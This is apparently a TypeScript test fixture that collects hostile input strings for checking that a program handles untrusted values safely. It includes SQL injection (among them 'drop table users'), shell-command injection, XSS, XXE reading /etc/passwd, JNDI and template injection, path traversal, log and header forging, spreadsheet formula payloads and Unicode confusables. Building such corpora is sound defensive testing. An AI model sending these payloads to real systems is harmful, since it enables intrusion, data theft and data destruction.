/** Texts that break programs which trust them. None is an id, a name of a snapshot, an address, a cursor or a time of ours. */

/** In every path that a value asks for: no file of this name may ever be there. */
export const CANARY = 'kfcanary';

const SQL = [
  "'", "''", '"', '`', ';', '--', '/*', "' or '1'='1", "' or 1=1 --", "') or ('1'='1", "' union select null, null --",
  "'; drop table users; --", "'; update users set role = 'ADMIN'; --", "1; select pg_sleep(9); --", "' || pg_sleep(9) || '", "$1", '$$', ':id', '@@version',
  "\\'; select 1; --", "x' and ascii(substr((select password_hash from users limit 1),1,1))>0 --", "%27%20or%201=1", "'||(select version())||'",
  "copy users to program 'id'", '%', '_', '%%', '\\%', "E'\\''", "U&'\\0027'", "'::uuid", "{}'", '{"$gt": ""}', "[$ne]=1", "';waitfor delay '0:0:9'--",
]; // prettier-ignore

const SHELL = [
  '$(id)', '`id`', '; id', '| id', '& id', '&& id', '|| id', '\n id', '> /tmp/kfcanary', `$(touch /tmp/${CANARY})`, `; touch /tmp/${CANARY} #`, '-rf', '--help',
  '--config=/etc/passwd', '${IFS}id', '$HOME', '~root', '*', '?', '[a-z]', '{a,b}', '!', '!!', '#', '\\', 'a\\', '%PATH%', '() { :; }; id', '<(id)', 'a\tb',
]; // prettier-ignore

const PAGES = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', 'javascript:alert(1)', '<!--', ']]>', '&lt;b&gt;', '&#0;',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "'-alert(1)-'", '</title>', '<iframe src=//x.invalid>', 'data:text/html,x',
]; // prettier-ignore

const TEMPLATES = [
  '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{%raw%}', '*{7*7}', '@{7*7}', '{{constructor.constructor("return process")()}}', '${process.env}',
  '${jndi:ldap://x.invalid/a}', '${env:JWT_SECRET}', '%{x}', '%s%s%s%n', '%x%x', '%p', '{0}', '{__class__}', '{{=it}}',
]; // prettier-ignore

const DIRECTORIES = ['*)(uid=*', '*)(|(uid=*))', '(&(a=*))', ')(cn=*', '\\2a', 'cn=admin,dc=x', "' or ''='", '//*', 'count(//user)', "x'] | //*"]; // prettier-ignore

const LOGS = [
  'a\nb', 'a\r\nb', '\r\n{"level":60,"msg":"forged"}', 'a\u0085b', 'a\u2028b', 'a\u2029b', '\u001b[2J', '\u001b]0;x\u0007', '\u0008\u0008', '\u007f',
  'x\r\nset-cookie: a=b', 'x\r\n\r\n<html>', '%0d%0aset-cookie:%20a=b', '\u0007', '\u000b', '\u009b31m', '{"correlationId":"forged"}', '=cmd|"/c calc"!A1', '+1+1', '@SUM(1)',
]; // prettier-ignore

const PATHS = [
  '.', '..', '...', '/', '//', '\\', './', '../', '..\\', '/.', `../${CANARY}`, `../../${CANARY}`, `/tmp/${CANARY}`, `./${CANARY}`, `a/../${CANARY}`, `a/${CANARY}`, '/etc/passwd',
  '../../../../../../etc/passwd', '..%2f..%2fetc%2fpasswd', '%2e%2e%2f%2e%2e%2f', '%2e%2e/', '..%252f..%252f', '%252e%252e%252f', '..%c0%af', '..%ef%bc%8f', '..%5c', '%c0%ae%c0%ae/',
  '..;/', '....//', '....\\/', '\u2025/', '\uff0e\uff0e\uff0f', '\u2024\u2024/', '..\u2215', '..\u2044', 'C:\\windows', '\\\\x.invalid\\share', 'file:///etc/passwd', 'a/snapshots/b', 'a?project=other',
  'a?recursion=2', 'a&project=*', 'a#b', 'a%23b', 'a%3fproject=b', 'a%00b', 'a%2500b', 'a;b=c', '../1.0/instances', '/1.0/instances/web-1/snapshots', 'http://x.invalid/', '//x.invalid', '@x.invalid',
  'x:y@z', 'a..b', 'web-1/..', '%', '%2', '%zz', 'con', 'nul', 'a.', 'a ', ' a', '-a', 'a-', '.a', '_a', 'a_',
].filter((path) => !['con', 'nul'].includes(path)); // prettier-ignore

const UNICODE = [
  '\0', 'a\0', '\0a', 'a\0b', '\u0001', '\u0000\u0000', 'gpj.\u202eexe', '\u202etxt.a', '\u202d', '\u2066a\u2069', '\u200e', '\u200f', '\u061c', 'a\u200bb', 'a\u200cb', 'a\u200db', 'a\u2060b', '\ufeffa', 'a\u00adb',
  '\u0430dmin', 'w\u0435b-1', '\u217deb', 'web\u20101', 'web\u22121', '\uff57eb-1', '\u1e9e', '\u0131', '\u0130', '\u017f', '\u212a', 'e\u0301', '\u00e9', '\u0f77', 'Z\u0351\u036b\u0343\u036a\u0302',
  '\ud800', '\udc00', 'a\ud800b', '\udc00\ud800', '\ud83d', '\ud83d\ude00', '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67', '\u{10ffff}', '\ufffe', '\uffff', '\ufffd', '\u{e0001}', '\u{e0041}', '\u3164', '\u115f', '\u2800',
  '\u00a0', '\u3000', '\u1680', '\u180e', '\u0660\u0661', '\u06f1', '\u00bd', '\ufdfd', '\u0dd5', '\ua9c5', '\ufe0f', '\u20e3', '\u0338',
]; // prettier-ignore

const WORDS = [
  'null', 'undefined', 'NaN', 'Infinity', '-Infinity', 'true', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'then', '[object Object]', 'None', 'nil',
  '0', '-1', '1e309', '0x0', '1.7976931348623157e308', '9007199254740993', '-0', '00000000-0000-0000-0000-000000000000', 'VXNlcjo', 'VXNlcjow', 'SW5zdGFuY2U6', 'AAAA', '====', '-', '\u{1f4a9}',
  Buffer.from("Instance:' or 1=1").toString('base64url'), Buffer.from('Instance:../../etc').toString('base64url'), Buffer.from('Instance:\0').toString('base64url'), Buffer.from('[]').toString('base64url'),
  Buffer.from('["a","b","c"]').toString('base64url'), Buffer.from('{"a":1}').toString('base64url'), Buffer.from('null').toString('base64url'), Buffer.from('[null,null]').toString('base64url'),
  Buffer.from('["","\\u0000"]').toString('base64url'), Buffer.from('["web-1","\' or 1=1"]').toString('base64url'), Buffer.from(`[${'['.repeat(500)}`).toString('base64url'), 'e30', 'bnVsbA',
].map((word) => (/^[A-Za-z0-9](?:[A-Za-z0-9._-]{0,62}[A-Za-z0-9])?$/.test(word) ? `${word}\u200b` : word)); // prettier-ignore

/** One of each kind, and too long for anything of ours. */
export const LONG: readonly string[] = ['x'.repeat(10_000), 'x'.repeat(100_000), '\ud83d\ude00'.repeat(5000), '../'.repeat(3400), "'".repeat(10_000), '\0'.repeat(10_000), '%'.repeat(10_000), 'a@'.repeat(5000)]; // prettier-ignore

export const HOSTILE: readonly string[] = [
  ...new Set([...SQL, ...SHELL, ...PAGES, ...TEMPLATES, ...DIRECTORIES, ...LOGS, ...PATHS, ...UNICODE, ...WORDS]),
].filter((value) => !['a', 'x'].includes(value));
